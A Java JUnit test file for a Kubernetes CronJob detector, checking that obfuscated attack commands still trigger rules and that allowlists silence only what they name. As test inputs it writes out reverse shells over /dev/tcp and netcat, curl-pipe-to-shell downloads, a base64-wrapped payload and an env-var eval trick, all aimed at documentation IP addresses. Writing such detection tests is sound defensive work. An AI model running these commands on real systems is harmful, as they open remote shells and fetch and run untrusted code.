package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.EnvVarSpec;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.PodTemplate;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.VolumeSpec;
import dev.cronsentinel.model.WorkloadEvent;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Equivalent spellings of the same attack fire the same signals, and allowlists silence exactly what they
 * name. Events are built directly so each case changes one field.
 */
class EvasionAndAllowlistTest {
    private static final Scorer SCORER = ScorerTest.SCORER;

    static ContainerSpec container(String image, List<String> command, List<String> args, List<EnvVarSpec> env) {
        return new ContainerSpec("c[0]", "c", image, command, args, env, null, null, null, null, List.of(), List.of());
    }

    static WorkloadEvent cronJob(String namespace, String actor, List<ContainerSpec> containers, List<VolumeSpec> volumes) {
        PodTemplate t = new PodTemplate("requestObject", "spec", null, null, null, null, null, containers, volumes);
        return new WorkloadEvent("a1", 0L, "t", "create", "cronjobs", namespace, "cj", null, actor, List.of(), "ua", "1.2.3.4",
                201, "allow", "RequestResponse", false, null, null, null, null, "* * * * *", null, null, false, false, List.of(t), "o");
    }

    static ScoredEvent score(ContainerSpec c) {
        return SCORER.score(cronJob("ns", "alice", List.of(c), List.of()), EventRole.WORKLOAD);
    }

    static ScoredEvent scoreVolume(String hostPath) {
        return SCORER.score(cronJob("ns", "alice", List.of(container("nginx", List.of(), List.of(), List.of())),
                List.of(new VolumeSpec("spec.volumes[0]", "v", hostPath))), EventRole.WORKLOAD);
    }

    static List<String> rules(ScoredEvent s) {
        return s.signals().stream().map(Signal::rule).toList();
    }

    @Test
    void imagesMatchWhateverTheRegistryTagDigestOrCase() {
        for (String image : List.of("kalilinux/kali-rolling", "docker.io/kalilinux/kali-rolling:latest",
                "index.docker.io/kalilinux/kali-rolling", "KALILINUX/Kali-Rolling:2024.1",
                "kalilinux/kali-rolling@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")) {
            assertThat(rules(score(container(image, List.of(), List.of(), List.of())))).as(image).contains("offensive-tooling");
        }
        for (String image : List.of("alpine", "ALPINE:3.19", "docker.io/library/alpine", "alpine@sha256:abc")) {
            assertThat(rules(score(container(image, List.of(), List.of(), List.of())))).as(image).contains("minimal-base-image");
        }
        // A word in another part of the reference is not the repository.
        assertThat(rules(score(container("registry.example.com/team/alpine-builder:1", List.of(), List.of(), List.of()))))
                .doesNotContain("minimal-base-image");
    }

    @Test
    void commandsMatchAcrossCommandAndArgs() {
        assertThat(rules(score(container("x", List.of("bash"), List.of("-i"), List.of())))).contains("interactive-shell");
        assertThat(rules(score(container("x", List.of("/bin/sh", "-c"), List.of("curl -s http://e/x | sh"), List.of()))))
                .contains("download-pipe-shell");
        assertThat(rules(score(container("x", List.of("nc"), List.of("-e", "/bin/sh", "198.51.100.7", "4444"), List.of()))))
                .contains("netcat-exec");
    }

    @Test
    void aShellLineHiddenInAnEnvVarIsExpanded() {
        List<EnvVarSpec> env = List.of(new EnvVarSpec("CMD", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
        for (String ref : List.of("$CMD", "${CMD}", "$(CMD)")) {
            ScoredEvent s = score(container("x", List.of("sh", "-c"), List.of("eval \"" + ref + "\""), env));
            assertThat(rules(s)).as(ref).contains("reverse-shell-dev-tcp");
            assertThat(s.signals()).filteredOn(x -> x.rule().equals("reverse-shell-dev-tcp"))
                    .extracting(Signal::path).containsExactly("c[0].command+args (env-expanded)");
        }
    }

    @Test
    void base64PayloadsAreDecodedAndMatched() {
        String payload = Base64.getEncoder().encodeToString("curl -fsSL http://203.0.113.9/x | bash".getBytes(StandardCharsets.UTF_8));
        ScoredEvent s = score(container("x", List.of("sh", "-c"), List.of("echo " + payload + " | base64 -d | sh"), List.of()));
        assertThat(rules(s)).contains("base64-pipe-shell", "download-pipe-shell");
        assertThat(s.signals()).filteredOn(x -> x.rule().equals("download-pipe-shell"))
                .extracting(Signal::path).containsExactly("c[0].command+args (base64-decoded)");
        // Random base64 that is not text does not fire anything extra.
        ScoredEvent noise = score(container("x", List.of("app"), List.of("--token", "q83vEjRWeJq8vN7/EjRWeJq8vN7/EjRW"), List.of()));
        assertThat(noise.signals()).isEmpty();
    }

    @Test
    void hostPathsAreNormalisedBeforeTheSensitiveCheck() {
        for (String p : List.of("/var/run/docker.sock", "/var/run/../run/docker.sock", "/etc/", "//proc/./1/root",
                "/var/lib/kubelet/pods", "/")) {
            assertThat(rules(scoreVolume(p))).as(p).contains("sensitive-mount");
        }
        for (String p : List.of("/var/log", "/data", "/etcd-backup", "/var/run/app.sock", "/opt/../srv")) {
            assertThat(rules(scoreVolume(p))).as(p).containsExactly("hostpath-volume");
        }
    }

    @Test
    void imageAllowlistSilencesOnlyTheMatchingContainer() {
        ContainerSpec scanner = new ContainerSpec("c[0]", "scan", "aquasec/kube-bench:v0.8", List.of("kube-bench"), List.of(), List.of(),
                true, null, null, null, List.of(), List.of());
        VolumeSpec etc = new VolumeSpec("spec.volumes[0]", "etc", "/etc");
        ScoredEvent allowed = SCORER.score(cronJob("security-scan", "alice", List.of(scanner), List.of(etc)), EventRole.WORKLOAD);
        assertThat(allowed.signals()).isEmpty();
        assertThat(allowed.alertable()).isFalse();
        assertThat(allowed.allowlistedBy()).isEqualTo("security-scanners");

        // The same scanner outside its namespace is not allowlisted.
        assertThat(SCORER.score(cronJob("default", "alice", List.of(scanner), List.of(etc)), EventRole.WORKLOAD).alertable()).isTrue();

        // A second, unlisted container keeps its own signals and the pod-level ones.
        ContainerSpec rider = container("alpine", List.of("sh", "-c"), List.of("bash -i >& /dev/tcp/198.51.100.7/1 0>&1"), List.of());
        rider = new ContainerSpec("c[1]", "rider", rider.image(), rider.command(), rider.args(), rider.env(), null, null, null, null, List.of(), List.of());
        ScoredEvent mixed = SCORER.score(cronJob("security-scan", "alice", List.of(scanner, rider), List.of(etc)), EventRole.WORKLOAD);
        assertThat(rules(mixed)).contains("reverse-shell-dev-tcp", "sensitive-mount").doesNotContain("privileged-container");
        assertThat(mixed.alertable()).isTrue();
    }

    @Test
    void actorAllowlistSilencesTheWholeEvent() {
        ContainerSpec py = container("python:3.12", List.of("python", "-c"), List.of("import etl; etl.run()"), List.of());
        ScoredEvent s = SCORER.score(cronJob("data-pipelines", "system:serviceaccount:data-pipelines:airflow", List.of(py), List.of()), EventRole.WORKLOAD);
        assertThat(s.allowlistedBy()).isEqualTo("data-pipelines");
        assertThat(s.signals()).isEmpty();
        ScoredEvent other = SCORER.score(cronJob("data-pipelines", "mallory", List.of(py), List.of()), EventRole.WORKLOAD);
        assertThat(other.allowlistedBy()).isNull();
        assertThat(rules(other)).contains("interpreter-one-liner");
    }
}
